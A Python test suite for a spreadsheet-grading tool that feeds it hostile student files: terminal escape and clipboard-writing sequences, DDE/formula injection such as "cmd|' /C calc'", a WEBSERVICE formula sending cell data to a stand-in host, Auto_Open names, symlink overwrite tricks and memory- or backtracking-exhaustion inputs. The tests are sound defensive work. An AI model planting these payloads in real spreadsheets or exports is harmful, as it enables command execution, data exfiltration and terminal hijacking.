"""What reaches the teacher: one hostile file never crashes a class's run, and nothing a
student wrote reaches the teacher's terminal, CSV, JSON or spreadsheet as anything but
inert text. Each case is made on the fly and run through the command line under a time
and a memory limit (issue 13, items 2 to 6)."""

import csv
import html
import json
import os
import re
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from sheetprop import sources
from sheetprop.answers import reference_values
from sheetprop.graph import Graph
from sheetprop.write import write_pair

from . import hostile
from .helpers import fill

TIME_LIMIT = 60
MEMORY_LIMIT = 1 << 30
# What a terminal acts on: C0 and C1 controls (ESC, CSI, OSC, BEL, CR), bidi overrides, and
# lone surrogates; a newline and a tab are the report's own.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                    "\ud800-\udfff]")
EVIL_NAME = "Ana\ud800\x1b]52;c;ZXZpbA==\x07\r\x1b[2J\u202eevil"
FORMULA = '=HYPERLINK("http://x","click")'


def _limited():
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def sheetprop(*args, cwd=None, timeout=TIME_LIMIT):
    """The command line, as a teacher runs it, under the limits; output as bytes decoded with
    surrogateescape so that a stray byte is seen, not hidden."""
    proc = subprocess.run([sys.executable, "-m", "sheetprop", *map(str, args)], capture_output=True,
                          timeout=timeout, preexec_fn=_limited, cwd=cwd, stdin=subprocess.DEVNULL)
    out = proc.stdout.decode("utf-8", "surrogateescape")
    err = proc.stderr.decode("utf-8", "surrogateescape")
    assert "Traceback" not in out + err, err[-2000:]
    return proc.returncode, out, err


def strict_json(text: str):
    def refuse(name):
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


def with_metadata(src: Path, out: Path, change) -> Path:
    """The workbook with its sheetprop metadata edited (JSON in docProps/custom.xml)."""
    def edit(data: bytes) -> bytes:
        m = re.search(rb"<vt:lpwstr>(.*?)</vt:lpwstr>", data, re.S)
        doc = json.loads(html.unescape(m.group(1).decode()))
        change(doc)
        raw = html.escape(json.dumps(doc), quote=False).encode()  # ASCII: \\u escapes survive XML
        return data[: m.start(1)] + raw + data[m.end(1):]
    return hostile.replace_part(src, out, "docProps/custom.xml", edit)


@pytest.fixture(scope="module")
def exercise(tmp_path_factory):
    folder = tmp_path_factory.mktemp("ex")
    g = sources.from_seed(42)
    graph = Graph(g.shape)
    expected = reference_values(graph, g)
    ex, _ = write_pair(g, folder / "gen")
    good = fill(ex, {q: expected[q] for q in graph.answer_ids}, folder / "good.xlsx")
    return g, graph, expected, ex, good


@pytest.fixture(scope="module")
def hostile_class(exercise, tmp_path_factory):
    """A class folder: good files, and one of each kind that used to crash the run."""
    g, graph, expected, ex, good = exercise
    d = tmp_path_factory.mktemp("class")
    files = {}
    files["good"] = Path(d / "good.xlsx")
    files["good"].write_bytes(good.read_bytes())
    marked = fill(good, {"net_h1": "PLACEHOLDER"}, d / "src" / "marked.xlsx")
    files["surrogate_cell"] = hostile.replace_part(marked, d / "surrogate-cell.xlsx", hostile.SHEET,
                                                   lambda x: x.replace(b"PLACEHOLDER", b"_xD800_x_xD83D__xDE00_"))
    files["evil_name"] = with_metadata(good, d / "evil-name.xlsx",
                                       lambda m: m.update(student={"id": FORMULA, "name": EVIL_NAME},
                                                          origin={"student": "@SUM(1+1)*cmd|' /C calc'!A0",
                                                                  "name": EVIL_NAME},
                                                          sheetprop="\x1b]52;c;aGk=\x07"))
    files["evil_twin"] = Path(d / "evil-twin.xlsx")  # the same variant under a roster id: a flag naming it
    files["evil_twin"].write_bytes(files["evil_name"].read_bytes())
    files["control_file_name"] = Path(d / "a\x1b[31mred\rb.xlsx")
    files["control_file_name"].write_bytes(good.read_bytes())
    files["formula_file_name"] = Path(d / "=cmd.xlsx")
    files["formula_file_name"].write_bytes(good.read_bytes())
    # A junk value in a date cell outside the answers (once fatal to the feedback copy).
    files["junk_cell"] = hostile.replace_part(
        good, d / "junk-cell.xlsx", hostile.SHEET,
        lambda x: x.replace(b"</sheetData>", b'<row r="200"><c r="F200" s="1" t="d"><v>abc</v></c></row></sheetData>'))
    # A sheet named Ex!1 (names and metadata follow it).
    def rename(part):
        return lambda x: x.replace(b"Exercise", b"Ex!1")
    entries = [(n, rename(n)(b) if n in ("xl/workbook.xml", "docProps/app.xml") else b)
               for n, b in hostile.entries(good)]
    renamed = hostile.rezip(d / "src" / "renamed.xlsx", entries)
    files["sheet_name"] = with_metadata(renamed, d / "sheet-name.xlsx", lambda m: m.update(sheet="Ex!1"))
    files["bad_lang"] = with_metadata(good, d / "bad-lang.xlsx", lambda m: m.update(lang="xx"))
    files["broken"] = Path(d / "broken.xlsx")
    files["broken"].write_bytes(good.read_bytes()[:500])
    return d, files


def test_the_run_survives_every_file_and_echoes_only_inert_text(hostile_class, tmp_path):
    d, files = hostile_class
    paths = list(files.values())
    status, out, err = sheetprop("check", "--no-recalculate", "--", *paths)
    assert status == 2  # the broken file
    assert not UNSAFE.search(out) and not UNSAFE.search(err)
    assert "\\u001b[31mred\\u000db.xlsx" in out  # file names are shown, escaped
    assert "suspected copy: =HYPERLINK" in out and "carries the same variant" in out
    assert len([ln for ln in out.splitlines() if ln.strip()]) >= len(paths)

    status, out, err = sheetprop("check", "--no-recalculate", "--full", "--", *paths)
    assert status == 2 and not UNSAFE.search(out + err)
    assert "\\u001b]52;c;ZXZpbA==\\u0007\\u000d\\u001b[2J\\u202eevil" in out  # the header's name, escaped
    assert "could not be checked" in out


def test_json_is_strict_and_complete(hostile_class):
    d, files = hostile_class
    status, out, err = sheetprop("check", "--no-recalculate", "--json", "--show-answers", "--", *files.values())
    assert status == 2 and not UNSAFE.search(out)
    doc = strict_json(out)
    by_path = {Path(f["path"]).name: f for f in doc["files"]}
    assert len(by_path) == len(files)
    evil = by_path["evil-name.xlsx"]
    assert evil["student"] == {"id": FORMULA, "name": EVIL_NAME}  # the data itself, escaped only in transit
    assert evil["score"]["points"] == 35
    cell = next(c for c in by_path["surrogate-cell.xlsx"]["cells"] if c["id"] == "net_h1")
    assert cell["verdict"] == "unreadable" and "\\ud800" in cell["value"] and "\U0001F600" in cell["value"]
    assert by_path["sheet-name.xlsx"]["score"]["points"] == 35
    assert by_path["junk-cell.xlsx"]["score"]["points"] == 35
    assert by_path["bad-lang.xlsx"]["score"]["points"] == 35
    assert by_path["broken.xlsx"]["error_code"] == "damaged"


def test_gradebook_and_feedback_for_every_file_with_inert_text(hostile_class, tmp_path):
    d, files = hostile_class
    book, folder = tmp_path / "grades.csv", tmp_path / "feedback"
    status, out, err = sheetprop("check", "--no-recalculate", "--gradebook", book, "--feedback", folder, "--",
                                 *(p.name for p in files.values()), cwd=d)
    assert status == 2 and not UNSAFE.search(out + err)
    raw = book.read_text(encoding="utf-8-sig")
    assert not UNSAFE.search(raw.replace("\r\n", "\n"))
    rows = list(csv.DictReader(raw.splitlines()))
    assert len(rows) == len(files)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    evil = next(r for r in rows if r["file"].endswith("evil-name.xlsx"))
    assert evil["student_id"] == "'" + FORMULA and evil["score"] == "35"
    assert evil["name"].startswith("Ana\\ud800\\u001b]52;c;ZXZpbA==\\u0007\\u000d")
    assert next(r for r in rows if r["file"].endswith("=cmd.xlsx"))["file"] == "'=cmd.xlsx"
    written = sorted(p.name for p in folder.iterdir())
    checked = [p for k, p in files.items() if k != "broken"]
    # named after each file, without the control characters a student put in its name
    from sheetprop.cli import _safe_stem

    assert written == sorted(f"{_safe_stem(p.stem)}-feedback.xlsx" for p in checked)
    assert not any(UNSAFE.search(name) for name in written)
    assert err.count("feedback: ") == len(checked)


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_feedback_is_built_fresh_never_a_copy_of_the_students_file(exercise, tmp_path):
    g, graph, expected, ex, good = exercise
    src = dict(hostile.entries(good))
    sheet = src[hostile.SHEET]
    # A student's workbook with live formulas outside the answers, a hyperlink, an Auto_Open
    # name and full recalculation on load.
    sheet = sheet.replace(b"</sheetData>", b'<row r="300"><c r="E300"><f>WEBSERVICE("http://x/?"&amp;C20)</f><v>0</v>'
                          b'</c><c r="F300"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row></sheetData>')
    workbook = src["xl/workbook.xml"].replace(
        b"</definedNames>", b'<definedName name="Auto_Open">\'Exercise\'!$E$300</definedName></definedNames>')
    workbook = re.sub(rb"<calcPr[^>]*/>", b'<calcPr calcId="124519" fullCalcOnLoad="1"/>', workbook)
    src[hostile.SHEET], src["xl/workbook.xml"] = sheet, workbook
    student = hostile.rezip(tmp_path / "=HYPERLINK(x).xlsx", list(src.items()))
    student = with_metadata(student, student, lambda m: m.update(origin={"student": "=1+1", "name": "@x"},
                                                                  student={"id": "=1+1", "name": "@x"}))
    out = tmp_path / "fb.xlsx"
    status, _, err = sheetprop("check", "--no-recalculate", "--feedback", out, student)
    assert status == 0, err
    written = parts(out)
    xml = b"".join(written.values())
    assert b"<f>" not in xml and b"<f " not in xml, "no formula of any kind"
    assert b"WEBSERVICE" not in xml and b"cmd|" not in xml and b"Auto_Open" not in xml
    assert b"fullCalcOnLoad=\"1\"" not in xml and not any("hyperlink" in n.lower() for n in written)
    assert "docProps/custom.xml" not in written or b"sheetprop" not in written["docProps/custom.xml"]
    import openpyxl

    wb = openpyxl.load_workbook(out)
    summary = wb.worksheets[0]
    assert summary["B3"].value == "=HYPERLINK(x).xlsx" and summary["B3"].data_type == "s"
    assert summary["B4"].data_type == "s" and "=1+1" in summary["B4"].value
    ws = wb.worksheets[1]
    names = {n: list(dn.destinations)[0][1].replace("$", "") for n, dn in wb.defined_names.items()}
    assert set(names) == set(graph.ids)
    assert ws[names["net_h1"]].value == pytest.approx(expected["net_h1"])
    assert ws[names["net_h1"]].comment is not None


def test_feedback_replaces_a_link_in_the_folder_never_writes_through_it(exercise, tmp_path):
    *_, good = exercise
    victim = tmp_path / "victim.txt"
    victim.write_text("the teacher's file")
    folder = tmp_path / "fb"
    folder.mkdir()
    os.symlink(victim, folder / "a-feedback.xlsx")
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    a.write_bytes(good.read_bytes())
    b.write_bytes(good.read_bytes())
    status, _, err = sheetprop("check", "--no-recalculate", "--feedback", folder, a, b)
    assert status == 0, err
    assert victim.read_text() == "the teacher's file"
    assert not (folder / "a-feedback.xlsx").is_symlink()
    assert zipfile.is_zipfile(folder / "a-feedback.xlsx")


def test_a_given_beyond_floating_point_gives_valid_json(exercise, tmp_path):
    *_, good = exercise
    def huge(m):
        m["exercise"]["values"]["w_5"] = 1e308
    src = with_metadata(good, tmp_path / "huge-meta.xlsx", huge)
    coord = cell_of(good, "w_5")
    f = hostile.replace_part(src, tmp_path / "huge.xlsx", hostile.SHEET,
                             lambda x: re.sub(rb'(<c r="%s"[^>]*><v>)[^<]*' % coord, rb"\g<1>1e308", x))
    assert b"1e308" in hostile.entries(f)[[n for n, _ in hostile.entries(f)].index(hostile.SHEET)][1]
    status, out, err = sheetprop("check", "--no-recalculate", "--json", "--show-answers", f)
    assert status in (1, 2), err
    doc = strict_json(out)
    assert "Infinity" not in out and "NaN" not in out
    assert doc["files"][0]["path"].endswith("huge.xlsx")


def test_absurd_numbers_earn_nothing_through_cells_that_repeat_them(exercise, tmp_path):
    g, graph, expected, ex, good = exercise
    for value in (1e16, -1e16, 1e300):
        f = fill(ex, {q: value for q in graph.answer_ids}, tmp_path / "absurd.xlsx")
        status, out, _ = sheetprop("check", "--no-recalculate", "--json", f)
        assert status == 1
        assert strict_json(out)["files"][0]["score"]["points"] == 0, value


def test_roster_with_control_characters_writes_the_rest_of_the_class(tmp_path):
    roster = tmp_path / "r.csv"
    roster.write_text('id,name\n1,Ana\n2,"Bo\x00b"\n"=HYPERLINK(""x"")",@SUM(1)\n4,"D\x1b]52;c;eA==\x07"\n5,Eva\n',
                      encoding="utf-8")
    out = tmp_path / "class"
    env_args = ("generate", "--roster", roster, "--out", out, "--secret", "s")
    status, text, err = sheetprop(*env_args)
    assert status == 2 and not UNSAFE.search(text + err)
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 2 and "line 3" in lines[0] and "U+0000" in lines[0] and "line 5" in lines[1]
    manifest = list(csv.reader(open(out / "manifest.csv", encoding="utf-8-sig")))
    assert [r[0] for r in manifest[1:]] == ["1", "'=HYPERLINK(\"x\")", "5"]
    assert manifest[2][1] == "'@SUM(1)"
    assert len(list((out / "exercises").iterdir())) == 3
    before = {p.name: p.read_bytes() for p in (out / "exercises").iterdir()}
    status, text, _ = sheetprop(*env_args)  # run again: the manifest reads back, nothing rewritten
    assert status == 2 and "0 written, 3 unchanged" in text
    assert {p.name: p.read_bytes() for p in (out / "exercises").iterdir()} == before


# --- exhaustion: every path bounded in time and memory (item 5) ------------------------------

# The peak of this process's own memory: VmHWM belongs to the program exec'd, while ru_maxrss
# keeps the high-water mark of the process it was forked from (a long pytest run: 200 MB).
MEASURED = """
import re, runpy, sys
sys.argv = ["sheetprop", *sys.argv[1:]]
try:
    runpy.run_module("sheetprop", run_name="__main__")
finally:
    with open("/proc/self/status") as f:
        print("MAXRSS", re.search(r"VmHWM:\\s+(\\d+)", f.read()).group(1), file=sys.stderr)
"""


def measured(*args, cwd=None, timeout=TIME_LIMIT, env=None):
    """The command line, with its own peak memory (KB) read back."""
    proc = subprocess.run([sys.executable, "-c", MEASURED, *map(str, args)], capture_output=True, text=True,
                          timeout=timeout, preexec_fn=_limited, cwd=cwd, stdin=subprocess.DEVNULL,
                          env=None if env is None else dict(os.environ, **env))
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    peak = int(re.search(r"MAXRSS (\d+)", proc.stderr).group(1))
    return proc.returncode, proc.stdout, proc.stderr, peak


def cell_of(path: Path, qid: str) -> bytes:
    import openpyxl

    return list(openpyxl.load_workbook(path).defined_names[qid].destinations)[0][1].replace("$", "").encode()


def with_answer_string(good: Path, out: Path, strings: bytes, index: int) -> Path:
    """net_h1 holds shared string number `index` of this sharedStrings part."""
    coord = cell_of(good, "net_h1")

    def sheet(x):
        return re.sub(rb'<c r="%s"[^>]*?(?:/>|>.*?</c>)' % coord, b'<c r="%s" t="s"><v>%d</v></c>' % (coord, index),
                      x, count=1)
    entries = [(n, sheet(b) if n == hostile.SHEET else b) for n, b in hostile.entries(good)]
    entries.append(("xl/sharedStrings.xml", strings))
    rels = dict(entries)["xl/_rels/workbook.xml.rels"]
    if b"sharedStrings" not in rels:
        rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdS" Target="sharedStrings.xml" Type="http://'
                            b'schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
                            b"</Relationships>")
        entries = [(n, rels if n == "xl/_rels/workbook.xml.rels" else b) for n, b in entries]
    return hostile.rezip(out, entries)


SST = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</sst>'


def test_text_that_makes_patterns_backtrack_is_refused_at_once(exercise, tmp_path):
    *_, good = exercise
    cases = {"digits": b"<si><t>" + b"0" * 32_000 + b"x</t></si>",
             "comma": b"<si><t>" + b"1" * 32_000 + b",x</t></si>",
             # phonetic runs: a 10 KB workbook once took 25 s (each run searched again for every text)
             "phonetic": b"<si><t>a</t>" + b"".join(b'<rPh sb="%d" eb="%d"><t>%d</t></rPh>' % (n, n + 1, n * 7919)
                                                    for n in range(6000)) + b"</si>"}
    files = [with_answer_string(good, tmp_path / f"{name}.xlsx", SST % si, 0) for name, si in cases.items()]
    status, out, err, _ = measured("check", "--no-recalculate", "--json", *files, timeout=20)
    doc = strict_json(out)
    assert [f["error"] for f in doc["files"]] == [None] * 3
    for f in doc["files"]:
        net = next(c for c in f["cells"] if c["id"] == "net_h1")
        assert net["verdict"] == "unreadable" and net["reason_code"] == "text", f["path"]
    assert next(c for c in doc["files"][2]["cells"] if c["id"] == "net_h1")["value"] == "a"


def test_large_shared_strings_are_streamed_never_kept(exercise, tmp_path):
    """Six files of 9 MB of shared strings each (once 200 MB apiece, kept for the whole run)."""
    import random

    *_, good = exercise
    rnd = random.Random(13)
    body = b"".join(b"<si><t>%08x</t></si>" % rnd.getrandbits(32) for _ in range(400_000))
    strings = SST % (body + b"<si><t>0,5</t></si>")
    first = with_answer_string(good, tmp_path / "big0.xlsx", strings, 400_000)
    files = [first]
    for n in range(1, 6):
        files.append(tmp_path / f"big{n}.xlsx")
        files[-1].write_bytes(first.read_bytes())
    status, out, err, peak = measured("check", "--no-recalculate", "--jobs", "1", "--json", *files)
    doc = strict_json(out)
    assert [f["error"] for f in doc["files"]] == [None] * 6
    for f in doc["files"]:
        net = next(c for c in f["cells"] if c["id"] == "net_h1")
        assert (net["reason_code"], net["value"]) == ("decimal_comma", "0,5")
    assert peak < 150 * 1024, f"peak {peak // 1024} MB"


def test_a_date_format_built_to_backtrack_costs_nothing(exercise, tmp_path):
    *_, good = exercise
    rnd = __import__("random").Random(5)
    junk = bytes(b for _ in range(100_000) for b in (91, rnd.randrange(97, 123)))  # "[q[f[x..." and no ']'

    def styles(x):
        fmt = b'<numFmts count="1"><numFmt numFmtId="200" formatCode="' + junk + b'"/></numFmts>'
        x = re.sub(rb"<numFmts.*?</numFmts>", b"", x, flags=re.S)
        return x.replace(b"<fonts", fmt + b"<fonts", 1).replace(b'<xf numFmtId="0"', b'<xf numFmtId="200"')
    f = hostile.replace_part(good, tmp_path / "fmt.xlsx", "xl/styles.xml", styles)
    status, out, err, _ = measured("check", "--no-recalculate", "--json", f, timeout=20)
    assert strict_json(out)["files"][0]["error"] is None


def test_two_thousand_hand_ins_of_one_shared_seed_raise_no_flag(exercise, tmp_path):
    *_, good = exercise
    data = good.read_bytes()
    folder = tmp_path / "selfstudy"
    folder.mkdir()
    for n in range(2000):
        (folder / f"s{n:04d}.xlsx").write_bytes(data)
    files = sorted(p.name for p in folder.iterdir())
    status, out, err, peak = measured("check", "--no-recalculate", "--json", "--gradebook", tmp_path / "g.csv",
                                      *files, cwd=folder, timeout=120)
    doc = strict_json(out)
    assert status == 0 and len(doc["files"]) == 2000
    assert all(f["flags"] == [] for f in doc["files"])
    one = strict_json(measured("check", "--no-recalculate", "--json", files[0], cwd=folder)[1])
    per_file = len(json.dumps(one["files"][0], indent=2))
    assert len(out) < 2000 * per_file * 1.2 + 50_000, "the JSON grows with the files, not their pairs"
    rows = list(csv.DictReader(open(tmp_path / "g.csv", encoding="utf-8-sig")))
    assert len(rows) == 2000 and not any(r["flags"] for r in rows)


def test_roster_students_sharing_a_variant_are_flagged_in_bounded_lists(exercise, tmp_path):
    from sheetprop.classroom import MAX_OTHERS

    *_, good = exercise
    base = with_metadata(good, tmp_path / "base.xlsx", lambda m: m.update(student={"id": "x", "name": ""}))
    entries = hostile.entries(base)
    custom = dict(entries)["docProps/custom.xml"]
    files = []
    for n in range(300):
        part = custom.replace(b'"id": "x"', b'"id": "%d"' % n)
        assert part != custom
        files.append(hostile.rezip(tmp_path / f"r{n:03d}.xlsx",
                                   [(k, part if k == "docProps/custom.xml" else v) for k, v in entries]))
    status, out, err, _ = measured("check", "--no-recalculate", "--json", *files, timeout=120)
    doc = strict_json(out)
    ids = {f["student"]["id"] for f in doc["files"]}
    assert len(ids) == 300
    for f in doc["files"]:
        assert len(f["flags"]) == MAX_OTHERS and {fl["kind"] for fl in f["flags"]} == {"same_variant"}
        assert all(fl["group"] == 300 and fl["other"] != f["student"]["id"] for fl in f["flags"])


@pytest.mark.libreoffice
def test_hostile_ods_files_are_read_in_bounded_time_and_memory(exercise, tmp_path):
    """An .ods is read from its own XML (ods.py): repeated rows and columns are counted, never
    expanded; a bad file is one line; the good one is graded without LibreOffice."""
    from sheetprop import libreoffice

    *_, good = exercise
    ods, = libreoffice.convert([good], tmp_path / "lo", "ods")
    src = hostile.entries(ods)
    content = dict(src)["content.xml"]

    def variant(name, edit):
        return hostile.rezip(tmp_path / name, [(n, edit(b) if n == "content.xml" else b) for n, b in src],
                             zipfile.ZIP_DEFLATED)

    rows = (b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
            b'table:number-columns-repeated="16384"/></table:table-row>')
    first_sheet = b'<table:table table:name="Endless">' + rows * 50 + b"</table:table>"
    files = {
        "good.ods": ods,
        "endless.ods": variant("endless.ods", lambda b: b.replace(b"<table:table ", first_sheet + b"<table:table ", 1)
                               .replace(b"</table:table></office", rows + b"</table:table></office", 1)),
        "filler.ods": variant("filler.ods", lambda b: b.replace(
            b"</table:table>", b"".join(b'<table:table-row><table:table-cell office:value-type="float" '
                                        b'office:value="%d"/></table:table-row>' % (n * 7919) for n in range(80_000))
            + b"</table:table>", 1)),
        "overflow.ods": variant("overflow.ods", lambda b: re.sub(
            rb'(office:value-type="float" office:value=")[^"]*', rb"\g<1>1e400", b)),
        "no-content.ods": hostile.rezip(tmp_path / "no-content.ods", [(n, b) for n, b in src if n != "content.xml"]),
    }
    assert content != dict(hostile.entries(files["endless.ods"]))["content.xml"]
    status, out, err, peak = measured("check", "--json", *files.values(), timeout=30,
                                      env={"SHEETPROP_SOFFICE": "/nonexistent/soffice"})
    doc = strict_json(out)
    by_name = {Path(f["path"]).name: f for f in doc["files"]}
    assert by_name["good.ods"]["score"]["points"] == 35 and by_name["good.ods"]["flags"] == []
    assert by_name["endless.ods"]["score"]["points"] == 35
    assert by_name["filler.ods"]["error"] is None, by_name["filler.ods"]["error"]
    assert by_name["filler.ods"]["score"]["points"] == 35
    assert by_name["overflow.ods"]["error"] is not None or by_name["overflow.ods"]["score"]["points"] < 35
    assert by_name["no-content.ods"]["error_code"] == "damaged"
    assert status == 2 and peak < 150 * 1024


def test_a_gradebook_path_that_is_a_symlink_is_replaced_not_written_through(tmp_path):
    """A link a student left where the gradebook goes must not let sheetprop overwrite what it points to."""
    import os

    from sheetprop import sources
    from sheetprop.write import write_pair

    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    ex, _ = write_pair(sources.from_seed(2), tmp_path / "gen")
    for name in ("grades.csv", "grades.xlsx"):
        link = tmp_path / name
        os.symlink(victim, link)
        status, _, err = sheetprop("check", ex, "--gradebook", link)
        assert status == 1, err
        assert victim.read_text() == "keep me"
        assert not link.is_symlink() and link.stat().st_size > 0


def test_explain_echoes_only_inert_text_and_refuses_a_training_run(tmp_path):
    """A student's file name with terminal escapes, and a part 2 workbook, through sheetprop explain."""
    ex = tmp_path / "gen"
    sheetprop("generate", "--seed", "42", "--out", ex)
    sheetprop("generate", "--task", "xor", "--seed", "42", "--out", ex)
    evil = tmp_path / "a\x1b]52;c;aGk=\x07b.xlsx"
    evil.write_bytes((ex / "sheetprop-seed42-exercise.xlsx").read_bytes())
    status, out, err = sheetprop("explain", evil, "--out", tmp_path / "out")
    assert status == 0 and not UNSAFE.search(out + err)
    assert all("\x1b" not in p.name for p in (tmp_path / "out").iterdir())
    status, out, err = sheetprop("explain", ex / "sheetprop-xor-seed42-exercise.xlsx", "--out", tmp_path / "out2")
    assert status == 2 and "training run" in err and len(err.strip().splitlines()) == 1
